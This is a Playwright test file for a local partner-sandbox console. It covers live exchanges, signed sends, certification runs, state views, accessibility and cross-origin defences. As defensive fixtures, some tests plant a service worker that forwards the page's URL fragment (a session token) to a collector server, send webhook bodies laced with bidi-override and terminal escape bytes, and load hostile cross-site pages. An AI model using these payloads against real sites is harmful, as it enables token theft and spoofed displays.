// The sandbox console in a real browser, against the packed stream-partner sandbox: live
// exchanges, verdicts, send, certify, explore, the state machine, accessibility, the keyboard,
// and a page on another origin that must not be able to read or drive it.
import { execFile } from 'node:child_process';
import { createServer } from 'node:http';
import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test as base, expect, type Page } from '@playwright/test';
import { attackPage, freePort, httpServer, ROOT, RUNTIME_DIR, startPosKit, startSandbox, type Child } from '../support/console';
import { describeViolations, runAxe, WCAG_TAGS } from '../support/site';

const test = base.extend<{ sandbox: Child }>({
  sandbox: async ({}, use) => {
    const sandbox = await startSandbox();
    await use(sandbox);
    await sandbox.close();
  },
});

const SCREENSHOTS = join(ROOT, 'site', 'static', 'img', 'console');

async function accessToken(sandboxUrl: string): Promise<string> {
  const response = await fetch(`${sandboxUrl}/oauth/token`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ grant_type: 'client_credentials', client_id: 'sandbox-client', client_secret: 'sandbox-secret' }),
  });
  expect(response.status).toBe(200);
  return ((await response.json()) as { access_token: string }).access_token;
}

async function createOnboarding(sandboxUrl: string, token: string): Promise<{ _id: string; entry_url: string }> {
  const response = await fetch(`${sandboxUrl}/onboarding/integrations`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
    body: JSON.stringify({ org_id: 'org_demo', source: 'example-pos', type: 'pos', return_url: 'https://app.examplepos.example/stream/onboarding/callback' }),
  });
  expect(response.status).toBe(201);
  return (await response.json()) as { _id: string; entry_url: string };
}

function badlySigned(sandboxUrl: string): Promise<Response> {
  return fetch(`${sandboxUrl}/pos/demo-partner/webhook`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Stream-Signature': 'f'.repeat(64) },
    body: JSON.stringify({ type: 'location.status.updated', object: { location_id: 'loc-downtown' } }),
  });
}

/** The header the terminal user's tools send with the console's token, from the token file they read. */
function consoleToken(sandbox: Child): Record<string, string> {
  return { 'x-sandbox-console-token': readFileSync(join(RUNTIME_DIR, 'stream-partner', `console-${new URL(sandbox.url).port}.token`), 'utf8').trim() };
}

/** The token the banner's console URL carries, which opens the console once. */
function linkToken(sandbox: Child): string {
  return new URLSearchParams(new URL(sandbox.consoleUrl).hash.slice(1)).get('token') ?? '';
}

/** Opens the console as its user does, from the URL the sandbox printed (the page trades its token for a session), then goes to `route`. */
async function openConsole(page: Page, sandbox: Child, route: string): Promise<void> {
  const origin = new URL(sandbox.consoleUrl).origin;
  await page.goto(sandbox.consoleUrl);
  // The token leaves the address bar at once.
  await expect(page).toHaveURL(`${origin}/`);
  await expect(page.getByRole('status').filter({ hasText: 'Live' })).toBeVisible();
  if (route !== '') {
    // The sandbox's own address sends the browser to the console's port, route kept.
    await page.goto(`${sandbox.url}/${route}`);
    await expect(page).toHaveURL(`${origin}/${route}`);
  }
}

async function axe(page: Page): Promise<string[]> {
  return describeViolations((await runAxe(page, { tags: WCAG_TAGS })).violations);
}

test.describe('the sandbox console', () => {
  test('a partner call appears in the list as it happens, and a refused call shows why', async ({ page, sandbox }) => {
    await openConsole(page, sandbox, '');
    // From the request leaving this process to its row in the page, for the first exchange (which
    // also pays for the sandbox's first signature and contract checks) and a later one.
    const latencies: number[] = [];
    for (const rows of [1, 2]) {
      // The observer is in place before the request leaves, so no row can slip past it.
      await page.evaluate((count) => {
        (window as unknown as { seen: Promise<number> }).seen = new Promise<number>((resolve) => {
          const observer = new MutationObserver(() => {
            if (document.querySelectorAll('tr[data-exchange-id]').length >= count) {
              observer.disconnect();
              resolve(Date.now());
            }
          });
          observer.observe(document.body, { childList: true, subtree: true });
        });
      }, rows);
      const sent = Date.now();
      const answer = await badlySigned(sandbox.url);
      expect(answer.status).toBe(401);
      latencies.push((await page.evaluate(() => (window as unknown as { seen: Promise<number> }).seen)) - sent);
      // The first exchange's contract verdict compiles its schema; the second is measured after it.
      await expect(page.locator('tr[data-exchange-id] [data-status="checking"]')).toHaveCount(0, { timeout: 20_000 });
    }
    const figure = `first exchange ${latencies[0]} ms, next ${latencies[1]} ms from request to row`;
    test.info().annotations.push({ type: 'exchange latency', description: figure });
    console.log(`console: ${figure}`);
    // Generous: the target is 200 ms on an idle machine; this only catches a page that stopped being live.
    expect(Math.max(...latencies)).toBeLessThan(10_000);
    const row = page.locator('tr[data-exchange-id]').first();
    await expect(row).toContainText('/pos/demo-partner/webhook');
    await expect(row).toContainText('401');
    await expect(row).toContainText('signature mismatch');
    await row.getByRole('link').click();
    await expect(page.getByText('Stream-Signature does not match the HMAC-SHA256 of the body').first()).toBeVisible();
    await expect(page.getByRole('link', { name: /API reference for pos:sendWebhookEvent/ })).toHaveAttribute('href', 'https://partners.stream.example/api/become-a-pos#operation/sendWebhookEvent');
  });

  test("a partner's right-to-left override and terminal escapes show as escapes, in the list, the detail and the curl", async ({ page, sandbox }) => {
    await openConsole(page, sandbox, '');
    // Raw control bytes inside the JSON strings (JSON.stringify would escape them), and a raw U+202E.
    const hostile = '{"type":"order.created\u202egnp.exe","object":{"location_id":"loc\u001b]0;owned\u0007\u001b[201~\u0003"}}';
    const answer = await fetch(`${sandbox.url}/pos/demo-partner/webhook`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'Stream-Signature': 'f'.repeat(64) }, body: hostile });
    expect(answer.status).toBeGreaterThanOrEqual(400);
    const row = page.locator('tr[data-exchange-id]').first();
    await expect(row).toContainText('/pos/demo-partner/webhook');
    await row.getByRole('link').click();
    const detail = page.locator('article.detail');
    await expect(detail).toContainText('gnp.exe');
    const text = await detail.textContent();
    // Written out, never acting: no bidirectional control reorders the page, no control byte reaches a paste.
    expect(text).toContain('\\u202egnp.exe');
    expect(text).toContain('\\x1b[201~\\x03');
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u);
    // The curl names the sandbox's own address, the same each run, not the console page's port.
    await expect(page.getByLabel('The request as a curl command')).toContainText(`'${sandbox.url}/pos/demo-partner/webhook'`);
  });

  test('a send reaches the partner test server signed, and its verdict shows', async ({ page, sandbox }) => {
    const partner = await httpServer(() => ({ status: 204 }));
    try {
      await openConsole(page, sandbox, '#/send');
      await page.getByLabel('What Stream sends').selectOption('events:order.updated');
      await page.getByLabel(/Your server/).fill(partner.url);
      await expect(page.getByText(/The body matches/)).toBeVisible();
      await page.getByRole('button', { name: 'Send signed' }).click();
      await expect(page.getByText('accepted (204)')).toBeVisible();
      await expect(page.getByText('The answer matches the contract.')).toBeVisible();
      expect(partner.received).toHaveLength(1);
      expect(partner.received[0]!.headers['stream-signature']).toMatch(/^[0-9a-f]{64}$/);
      // The target URL is remembered.
      await page.reload();
      await expect(page.getByLabel(/Your server/)).toHaveValue(partner.url);
      await page.goto(`${sandbox.url}/#/exchanges`);
      await expect(page.locator('tr[data-exchange-id]').first()).toContainText('out (console)');
    } finally {
      await partner.close();
    }
  });

  test('a trigger run in a terminal with --sandbox-url appears on the Exchanges page with its verdict', async ({ page, sandbox }) => {
    const partner = await httpServer(() => ({ status: 204 }));
    try {
      await openConsole(page, sandbox, '#/exchanges');
      // Its own process, as from a terminal; asynchronous, so the partner server in this process can answer.
      const run = await new Promise<{ code: number | null; stdout: string; stderr: string }>((done) => {
        const child = execFile(process.execPath, [join(ROOT, 'packages', 'cli', 'bin', 'stream-partner.js'), 'trigger', 'events:order.updated', '--to', partner.url, '--sandbox-url', sandbox.url], { cwd: ROOT, timeout: 30_000, env: { ...process.env, XDG_RUNTIME_DIR: RUNTIME_DIR } }, (_error, stdout, stderr) => done({ code: child.exitCode, stdout, stderr }));
      });
      expect(run.code, run.stdout + run.stderr).toBe(0);
      expect(run.stderr).toBe('');
      expect(partner.received).toHaveLength(1);
      const row = page.locator('tr[data-exchange-id]').first();
      await expect(row).toContainText('out (trigger)');
      await expect(row).toContainText('204');
      await row.getByRole('link').click();
      await expect(page.getByText('trigger (a terminal) → partner')).toBeVisible();
      await expect(page.getByText(/accepted \(204\)/).first()).toBeVisible();
    } finally {
      await partner.close();
    }
  });

  test("the explorer's call to the sandbox succeeds with a token fetched for you, and shows the curl", async ({ page, sandbox }) => {
    await openConsole(page, sandbox, '#/explore/partner/createOnboardingIntegration');
    await expect(page.getByRole('heading', { name: 'Create an onboarding integration' })).toBeVisible();
    await page.getByRole('button', { name: 'Call the sandbox' }).click();
    await expect(page.locator('.result .badge')).toHaveText('201', { timeout: 30_000 });
    await expect(page.getByLabel('The call as a curl command')).toContainText("curl -X POST 'http://127.0.0.1:");
    await expect(page.getByLabel('The call as a curl command')).toContainText('Authorization: Bearer $TOKEN');
    const state = (await (await fetch(`${sandbox.url}/_sandbox/state`, { headers: consoleToken(sandbox) })).json()) as { onboardings: unknown[] };
    expect(state.onboardings).toHaveLength(1);
  });

  test('the state view follows an onboarding through pending, waiting_for_oauth, active and deprovisioned', async ({ page, sandbox }) => {
    await openConsole(page, sandbox, '#/state');
    const token = await accessToken(sandbox.url);
    const onboarding = await createOnboarding(sandbox.url, token);
    const item = page.locator(`[data-onboarding="${onboarding._id}"]`);
    const current = item.locator('[aria-current="step"]');
    await expect(current).toHaveText('pending');
    await expect(item.getByRole('link', { name: 'entry_url' })).toHaveAttribute('href', onboarding.entry_url);
    const redirect = await fetch(onboarding.entry_url, { redirect: 'manual' });
    const code = new URL(redirect.headers.get('location')!).searchParams.get('code')!;
    await expect(current).toHaveText('waiting for oauth');
    await expect(item).toContainText(`PUT /onboarding/integrations/${onboarding._id}`);
    const complete = await fetch(`${sandbox.url}/onboarding/integrations/${onboarding._id}`, { method: 'PUT', headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` }, body: JSON.stringify({ code }) });
    expect(complete.status).toBe(200);
    await expect(current).toHaveText('active');
    const revoke = await fetch(`${sandbox.url}/onboarding/integrations/${onboarding._id}`, { method: 'DELETE', headers: { Authorization: `Bearer ${token}` } });
    expect(revoke.status).toBe(200);
    await expect(current).toHaveText('deprovisioned');
    await page.getByRole('button', { name: 'Reset state…' }).click();
    await page.getByRole('button', { name: 'Yes, reset' }).click();
    await expect(item).toHaveCount(0);
  });

  test('the state view of a sandbox with more orders than it follows live shows the latest, their total, and pages through every order on request', async ({ page, sandbox }) => {
    // The page follows each list's latest 100 entries; a whole state sent at every change slowed the sandbox.
    const register = (index: number) => fetch(`${sandbox.url}/_sandbox/orders`, { method: 'POST', headers: { 'Content-Type': 'application/json', ...consoleToken(sandbox) }, body: JSON.stringify({ id: `ord-many-${index}`, audience: 'pos', location_id: 'loc-downtown', provider_id: `pos-many-${index}` }) });
    for (let index = 0; index < 150; index += 25) expect((await Promise.all(Array.from({ length: 25 }, (_, offset) => register(index + offset)))).map((answer) => answer.status)).toEqual(Array(25).fill(201));
    const total = ((await (await fetch(`${sandbox.url}/_sandbox/state`, { headers: consoleToken(sandbox) })).json()) as { orders: unknown[] }).orders.length;
    await openConsole(page, sandbox, '#/state');
    const orders = page.getByRole('table', { name: 'Orders', exact: true });
    await expect(page.getByText(`Showing the latest 100 of ${total} orders, live.`)).toBeVisible();
    await expect(orders.getByRole('row')).toHaveCount(101);
    await expect(orders).toContainText('ord-many-149');
    await expect(orders.getByRole('cell', { name: 'ord-many-0', exact: true })).toHaveCount(0);
    expect((await register(150)).status).toBe(201);
    await expect(orders).toContainText('ord-many-150');
    await expect(page.getByText(`Showing the latest 100 of ${total + 1} orders, live.`)).toBeVisible();
    // Each page is one read of at most 100 orders: the whole state (tens of MB at 100,000 orders) is never read at once.
    const all = total + 1;
    const pageText = (first: number, last: number) => new RegExp(`^Orders ${first}–${last} of ${all}, oldest first, as of \\d\\d:\\d\\d:\\d\\d; these pages do not follow changes\\.$`);
    await page.getByRole('button', { name: 'Page through every entry' }).click();
    await expect(page.getByText(pageText(all - 99, all))).toBeVisible();
    await expect(orders.getByRole('row')).toHaveCount(101);
    await expect(page.getByRole('button', { name: 'Later orders' })).toBeDisabled();
    await page.getByRole('button', { name: 'Earlier orders' }).click();
    await expect(page.getByText(pageText(1, all - 100))).toBeVisible();
    await expect(orders.getByRole('row')).toHaveCount(all - 100 + 1);
    await expect(orders.getByRole('cell', { name: 'ord-many-0', exact: true })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Earlier orders' })).toBeDisabled();
    expect(await axe(page), 'the State page while paging').toEqual([]);
    await page.getByRole('button', { name: 'Later orders' }).click();
    await expect(page.getByText(pageText(all - 99, all))).toBeVisible();
    await expect(orders.getByRole('cell', { name: 'ord-many-150', exact: true })).toBeVisible();
    await page.getByRole('button', { name: 'Follow live changes' }).click();
    await expect(orders.getByRole('row')).toHaveCount(101);
  });

  test('a certify run against the POS starter kit ends green, with the JUnit report to download', async ({ page, sandbox }) => {
    test.setTimeout(180_000);
    const kit = await startPosKit(sandbox.url);
    try {
      await openConsole(page, sandbox, '#/certify');
      await page.getByLabel('Audience').selectOption('pos');
      await page.getByLabel(/Your server's base URL/).fill(kit.url);
      await page.getByRole('button', { name: 'Run certification' }).click();
      await expect(page.locator('[data-requirement][data-status="passed"]').first()).toBeVisible({ timeout: 60_000 });
      await expect(page.getByText('Every requirement that ran passed.')).toBeVisible({ timeout: 150_000 });
      await expect(page.locator('[data-requirement][data-status="failed"]')).toHaveCount(0);
      const passed = await page.locator('[data-requirement][data-status="passed"]').count();
      expect(passed).toBeGreaterThan(5);
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: 'Download JUnit XML' }).click();
      const file = await (await download).path();
      const { readFileSync } = await import('node:fs');
      expect(readFileSync(file, 'utf8')).toContain('<testsuite');
    } finally {
      await kit.close();
    }
  });

  test('every page has no axe WCAG 2.2 AA violations in light and dark mode, and the toggle switches mode', async ({ page, sandbox }) => {
    const BACKGROUND = { light: 'rgb(255, 255, 255)', dark: 'rgb(13, 17, 23)' } as const;
    test.setTimeout(300_000);
    await badlySigned(sandbox.url);
    await createOnboarding(sandbox.url, await accessToken(sandbox.url));
    for (const mode of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: mode });
      for (const route of ['exchanges', 'exchanges/1', 'state', 'send', 'certify', 'explore/partner/createOnboardingIntegration']) {
        await openConsole(page, sandbox, `#/${route}`);
        await expect(page.locator('main h1')).toBeVisible();
        await expect(page.locator('body'), `${route} follows the system's ${mode} mode`).toHaveCSS('background-color', BACKGROUND[mode]);
        expect(await axe(page), `${route} in ${mode} mode`).toEqual([]);
      }
    }
    await page.emulateMedia({ colorScheme: 'light' });
    await openConsole(page, sandbox, '');
    await page.getByRole('button', { name: 'Dark mode' }).click();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await expect(page.locator('body')).toHaveCSS('background-color', BACKGROUND.dark);
    await page.reload();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await expect(page.locator('body')).toHaveCSS('background-color', BACKGROUND.dark);
  });

  test('everything is reachable from the keyboard: skip link, page links, an exchange and its replay', async ({ page, sandbox }) => {
    await badlySigned(sandbox.url);
    await openConsole(page, sandbox, '');
    await page.keyboard.press('Tab');
    await expect(page.getByRole('link', { name: 'Skip to content' })).toBeFocused();
    await page.keyboard.press('Tab');
    await expect(page.getByRole('link', { name: 'Exchanges' })).toBeFocused();
    await page.keyboard.press('Tab');
    await expect(page.getByRole('link', { name: 'State' })).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(page.locator('main h1')).toHaveText('State');
    await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Enter');
    await expect(page.locator('main h1')).toHaveText('Exchanges');
    const link = page.locator('tr[data-exchange-id] a').first();
    for (let presses = 0; presses < 15 && !(await link.evaluate((element) => element === document.activeElement)); presses++) await page.keyboard.press('Tab');
    await expect(link).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(page.getByRole('button', { name: 'Replay' })).toBeVisible();
    await page.getByRole('button', { name: 'Replay' }).focus();
    await page.keyboard.press('Enter');
    await expect(page.getByText('Replayed: the new exchange is at the top of the list.')).toBeVisible();
  });

  test('the sandbox address without the console URL says where to find it, and shows no console', async ({ page, sandbox }) => {
    const answer = await page.goto(`${sandbox.url}/#/exchanges`);
    expect(answer?.status(), 'the page is the bare app shell').toBe(200);
    await expect(page.getByText('printed in the terminal that started it')).toBeVisible();
    await expect(page.getByRole('navigation')).toHaveCount(0);
    expect(await page.content()).not.toContain(sandbox.consoleUrl.split('token=')[1]!);
    expect(await axe(page)).toEqual([]);
  });

  test("a service worker left at the sandbox's address by whatever answered it before the sandbox started never sees the console URL", async ({ page }) => {
    const port = await freePort();
    const stolen: string[] = [];
    const collector = await httpServer((request) => {
      stolen.push(request.url);
      return { status: 204 };
    });
    // Another local user's server on the port, while no sandbox runs there: its page registers a worker
    // that answers every later visit to this origin with a page that sends the address's fragment away.
    const worker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.mode === 'navigate') event.respondWith(new Response('<script>location.href = ${JSON.stringify(`${collector.url}/`)} + encodeURIComponent(location.hash)</script>', { headers: { 'content-type': 'text/html' } }));
});`;
    const squatter = createServer((request, response) => {
      if (request.url === '/worker.js') return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
      response.writeHead(200, { 'content-type': 'text/html' }).end("<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted' })</script>");
    });
    await new Promise<void>((done) => squatter.listen(port, '127.0.0.1', done));
    let sandbox: Child | undefined;
    try {
      // The partner follows the API reference's "Try it in your local sandbox" link while their sandbox is stopped.
      await page.goto(`http://127.0.0.1:${port}/#/explore/pos/getCatalog`);
      await expect(page).toHaveTitle('planted');
      squatter.closeAllConnections();
      await new Promise<void>((done) => squatter.close(() => done()));
      sandbox = await startSandbox(port);
      // The console's page is on a port of its own, which nothing answered before this run.
      await openConsole(page, sandbox, '');
      await expect(page.locator('main h1')).toHaveText('Exchanges');
      expect(stolen, 'the worker served no page of the console').toEqual([]);
      // It still answers a visit to the sandbox's own address, which holds no secret, until the browser
      // checks it for an update: the sandbox answers that check with a worker that removes itself.
      const origin = new URL(sandbox.consoleUrl).origin;
      const running = sandbox;
      await expect(async () => {
        await page.goto(`${running.url}/`, { waitUntil: 'commit' }).catch(() => undefined);
        await expect(page).toHaveURL(`${origin}/`, { timeout: 2000 });
      }).toPass({ timeout: 30_000 });
      expect(stolen.join(' '), 'the worker never saw the token').not.toContain(linkToken(sandbox));
    } finally {
      squatter.closeAllConnections();
      squatter.close();
      await sandbox?.close();
      await collector.close();
    }
  });

  test("a service worker left at the sandbox's address that updates through the HTTP cache is gone once the console opens, so the API reference's link reaches the console", async ({ page }) => {
    const port = await freePort();
    // Checked against the HTTP cache for a day (updateViaCache 'all', script cached a day): the browser
    // never asks the sandbox about it, and it answers the sandbox's address with a page of its own.
    const worker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.mode === 'navigate') event.respondWith(new Response('<title>Paste the console URL</title>', { headers: { 'content-type': 'text/html' } }));
});`;
    const squatter = createServer((request, response) => {
      if (request.url === '/worker.js') return void response.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'max-age=86400' }).end(worker);
      response.writeHead(200, { 'content-type': 'text/html' }).end("<script>navigator.serviceWorker.register('/worker.js', { updateViaCache: 'all' }).then(() => navigator.serviceWorker.ready).then(() => { document.title = 'planted' })</script>");
    });
    await new Promise<void>((done) => squatter.listen(port, '127.0.0.1', done));
    let sandbox: Child | undefined;
    try {
      await page.goto(`http://127.0.0.1:${port}/`);
      await expect(page).toHaveTitle('planted');
      squatter.closeAllConnections();
      await new Promise<void>((done) => squatter.close(() => done()));
      sandbox = await startSandbox(port);
      await openConsole(page, sandbox, '');
      await expect(page.locator('main h1')).toHaveText('Exchanges');
      const origin = new URL(sandbox.consoleUrl).origin;
      // The first visit after the console opened, with no update check in between, reaches the sandbox.
      await page.goto(`${sandbox.url}/#/explore/pos/getCatalog`);
      await expect(page).toHaveURL(`${origin}/#/explore/pos/getCatalog`);
      await expect(page.locator('main h1')).toHaveText('Explore');
      // What was cleared is the sandbox's origin, not the console's: its session holds.
      expect(await page.evaluate(() => localStorage.getItem('sandbox-console:session'))).not.toBeNull();
    } finally {
      squatter.closeAllConnections();
      squatter.close();
      await sandbox?.close();
    }
  });

  test("the banner's console URL opens the console once: again in this browser it keeps the session, elsewhere it says where the token is", async ({ page, browser, sandbox }) => {
    await openConsole(page, sandbox, '');
    const again = await page.context().newPage();
    await again.goto(sandbox.consoleUrl);
    await expect(again.getByRole('status').filter({ hasText: 'Live' })).toBeVisible();
    await expect(again.locator('main h1')).toHaveText('Exchanges');
    // The first tab kept its session too.
    await page.reload();
    await expect(page.getByRole('status').filter({ hasText: 'Live' })).toBeVisible();
    // Another browser (a copy from this one's history, a screenshot): the link opens nothing.
    const elsewhere = await browser.newContext();
    try {
      const other = await elsewhere.newPage();
      await other.goto(sandbox.consoleUrl);
      await expect(other.getByRole('alert')).toContainText('already opened the console once');
      await expect(other.getByRole('status').filter({ hasText: 'Live' })).toHaveCount(0);
      // The token file's token, pasted, opens it.
      await other.getByLabel('Paste that console URL (or its token) to open the console in this tab').fill(consoleToken(sandbox)['x-sandbox-console-token']!);
      await other.getByRole('button', { name: 'Open the console' }).click();
      await expect(other.getByRole('status').filter({ hasText: 'Live' })).toBeVisible();
    } finally {
      await elsewhere.close();
    }
  });

  test("the API reference's link from another site opens a new tab on the console, which takes the pasted console URL and shows that operation", async ({ page, sandbox }) => {
    // The docs on a site of their own (localhost is another site than 127.0.0.1), linking as parties.ts does, with the sandbox's port.
    const route = '#/explore/partner/createOnboardingIntegration';
    const docs = await httpServer(() => ({ status: 200, type: 'text/html; charset=utf-8', body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>API reference</title></head><body><a href="${sandbox.url}/${route}" target="_blank" rel="noopener">Try it in your local sandbox</a></body></html>` }));
    const sent: { url: string; site: string | null; mode: string | null }[] = [];
    page.context().on('request', (request) => {
      if (request.url().startsWith('http://127.0.0.1:') && !request.url().startsWith(docs.url)) void request.allHeaders().then((headers) => sent.push({ url: request.url(), site: headers['sec-fetch-site'] ?? null, mode: headers['sec-fetch-mode'] ?? null }));
    });
    try {
      await page.goto(docs.url.replace('127.0.0.1', 'localhost'));
      const [tab] = await Promise.all([page.context().waitForEvent('page'), page.getByRole('link', { name: 'Try it in your local sandbox' }).click()]);
      const origin = new URL(sandbox.consoleUrl).origin;
      // By the sandbox's port to the page's own, the route kept; no session in this browser yet.
      await expect(tab).toHaveURL(`${origin}/${route}`);
      await expect(tab.getByText('You followed a link to Explore › partner › createOnboardingIntegration.')).toBeVisible();
      expect(sent.filter((request) => request.mode === 'navigate').map((request) => request.site), 'both requests of the chain were cross-site navigations').toEqual(['cross-site', 'cross-site']);
      expect(await axe(tab)).toEqual([]);
      const field = tab.getByLabel('Paste that console URL (or its token) to open the console in this tab');
      await field.fill(`${sandbox.url}/${route}`);
      await tab.getByRole('button', { name: 'Open the console' }).click();
      await expect(tab.getByRole('alert')).toContainText('Console (open in your browser)');
      await field.fill(sandbox.consoleUrl);
      await tab.getByRole('button', { name: 'Open the console' }).click();
      await expect(tab.getByRole('heading', { name: 'Create an onboarding integration' })).toBeVisible();
      await expect(tab).toHaveURL(`${origin}/${route}`);
      for (const token of [consoleToken(sandbox)['x-sandbox-console-token']!, linkToken(sandbox)]) {
        expect(await tab.evaluate(() => JSON.stringify(localStorage)), 'the page keeps the session, not the token').not.toContain(token);
        expect(sent.map((request) => request.url).join(' '), 'the token was in no URL the browser asked for').not.toContain(token);
      }
      await tab.getByRole('button', { name: 'Call the sandbox' }).click();
      await expect(tab.locator('.result .badge')).toHaveText('201', { timeout: 30_000 });
    } finally {
      await docs.close();
    }
  });

  test("a page on another site that sends the browser to the sandbox's address with a made-up token signs no console tab out", async ({ page, sandbox }) => {
    // A navigation to the sandbox's address is let through as the docs' links are, and keeps its fragment to the console's page.
    const hostile = await httpServer(() => ({ status: 200, type: 'text/html; charset=utf-8', body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>elsewhere</title></head><body><script>location.href = ${JSON.stringify(`${sandbox.url}/#token=${'0'.repeat(48)}`)}</script></body></html>` }));
    try {
      await openConsole(page, sandbox, '');
      const other = await page.context().newPage();
      await other.goto(hostile.url.replace('127.0.0.1', 'localhost'));
      await expect(other).toHaveURL(`${new URL(sandbox.consoleUrl).origin}/`);
      await expect(other.getByRole('status').filter({ hasText: 'Live' })).toBeVisible();
      expect(await page.evaluate(() => localStorage.getItem('sandbox-console:session')), 'the session stays in this browser').not.toBeNull();
      await page.reload();
      await expect(page.getByRole('status').filter({ hasText: 'Live' })).toBeVisible();
    } finally {
      await hostile.close();
    }
  });

  test('a page on another origin can neither read the console nor make the sandbox reset or send', async ({ page, sandbox }) => {
    await createOnboarding(sandbox.url, await accessToken(sandbox.url));
    const partner = await httpServer(() => ({ status: 204 }));
    const attacker = await httpServer(() => ({ status: 200, type: 'text/html; charset=utf-8', body: attackPage(sandbox.url, partner.url) }));
    try {
      // The user has the console open: its session is in this browser, and must not help another site.
      await openConsole(page, sandbox, '');
      expect(await page.context().cookies(), 'the console sets no cookie, which every other local port would receive').toEqual([]);
      expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(consoleToken(sandbox)['x-sandbox-console-token']!);
      expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(linkToken(sandbox));
      await page.goto(`${attacker.url}/`);
      await expect(page.locator('#results')).toContainText('"done":true', { timeout: 15_000 });
      const results = JSON.parse((await page.locator('#results').textContent()) ?? '{}') as Record<string, unknown>;
      expect(String(results['read-state'])).toMatch(/^blocked/);
      expect(String(results['read-stream'])).toMatch(/^blocked/);
      expect(String(results['reset-json'])).toMatch(/^blocked/);
      expect(String(results['index'])).toMatch(/^blocked/);
      // no-cors requests reach the server but their answers are opaque; the guard must refuse them there.
      expect(results['reset-no-cors']).toBe('opaque');
      const state = (await (await fetch(`${sandbox.url}/_sandbox/state`, { headers: consoleToken(sandbox) })).json()) as { onboardings: unknown[] };
      expect(state.onboardings, 'the onboarding survives: no reset happened').toHaveLength(1);
      expect(partner.received, 'the sandbox sent nothing to the partner').toHaveLength(0);
    } finally {
      await attacker.close();
      await partner.close();
    }
  });

  test('screenshots of the console for the sandbox guide, in light and dark mode', async ({ page, sandbox }, testInfo) => {
    // The committed screenshots change only on purpose: UPDATE_SCREENSHOTS=1 writes them; other runs keep theirs with the test's output.
    const dir = process.env.UPDATE_SCREENSHOTS === '1' ? SCREENSHOTS : testInfo.outputPath('screenshots');
    mkdirSync(dir, { recursive: true });
    await page.setViewportSize({ width: 1280, height: 800 });
    const token = await accessToken(sandbox.url);
    const onboarding = await createOnboarding(sandbox.url, token);
    await fetch(onboarding.entry_url, { redirect: 'manual' });
    await badlySigned(sandbox.url);
    await fetch(`${sandbox.url}/tokens?org_id=org_demo`, { headers: { Authorization: `Bearer ${token}` } });
    for (const mode of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme: mode });
      await openConsole(page, sandbox, '#/exchanges');
      await expect(page.locator('tr[data-exchange-id]').first()).toBeVisible();
      await page.screenshot({ path: join(dir, `exchanges-${mode}.png`) });
      const refused = page.locator('tr[data-exchange-id]', { hasText: '/pos/demo-partner/webhook' }).getByRole('link');
      await refused.click();
      await expect(page.getByText('signature mismatch').first()).toBeVisible();
      await page.screenshot({ path: join(dir, `exchange-detail-${mode}.png`) });
      await openConsole(page, sandbox, '#/state');
      await expect(page.locator('[aria-current="step"]').first()).toHaveText('waiting for oauth');
      await page.screenshot({ path: join(dir, `state-${mode}.png`) });
    }
  });
});
